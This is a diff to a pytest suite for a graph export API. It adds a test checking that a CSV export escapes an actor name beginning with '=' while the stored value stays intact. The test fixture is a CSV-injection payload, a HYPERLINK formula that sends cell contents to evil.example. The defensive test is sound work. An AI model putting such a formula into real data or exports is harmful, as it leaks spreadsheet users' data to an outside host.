@@ -15,7 +15,7 @@ import networkx as nx
 import pytest
 
 from bench.generator import generate
-from tests.api.conftest import LINKS_PER_ACTOR, N_ACTORS, SEED
+from tests.api.conftest import LINKS_PER_ACTOR, N_ACTORS, SEED, data
 
 pytestmark = pytest.mark.memory
 
@@ -127,3 +127,36 @@ def test_export_errors_are_clear(client: httpx.Client) -> None:
     assert bad.status_code == 400 and bad.json()["error"]["code"] == "invalid"
     missing = client.get("/export/paths.gexf?from=net-mes")
     assert missing.status_code == 400
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+
+
+def test_csv_export_escapes_a_formula_and_the_graph_keeps_it(
+    client: httpx.Client, editor_token: str
+) -> None:
+    """A name beginning with ``=`` is written ``'=…`` in the CSV (OWASP's rule), while GraphQL
+    still reads the stored value unchanged."""
+    saved = data(
+        client,
+        """mutation($input: ActorInput!) { upsertActor(input: $input) {
+          __typename ... on ActorSaved { actor { id } } ... on Problem { code message } } }""",
+        {
+            "input": {
+                "id": "mai-formula0001",
+                "kind": "ORGANISATION",
+                "name": FORMULA,
+                "commune": "31555",
+                "source": {"system": "test", "key": "formula"},
+            }
+        },
+        token=editor_token,
+    )["upsertActor"]
+    assert saved["__typename"] == "ActorSaved", saved
+    content = _get(client, "/export/neighbourhood.csv?actor=mai-formula0001&depth=1")
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        nodes = list(csv.DictReader(io.StringIO(archive.read("nodes.csv").decode())))
+    mine = [n for n in nodes if n["Id"] == "mai-formula0001"]
+    assert mine and mine[0]["Label"] == "'" + FORMULA
+    stored = data(client, '{ actor(id: "mai-formula0001") { name } }')["actor"]
+    assert stored["name"] == FORMULA
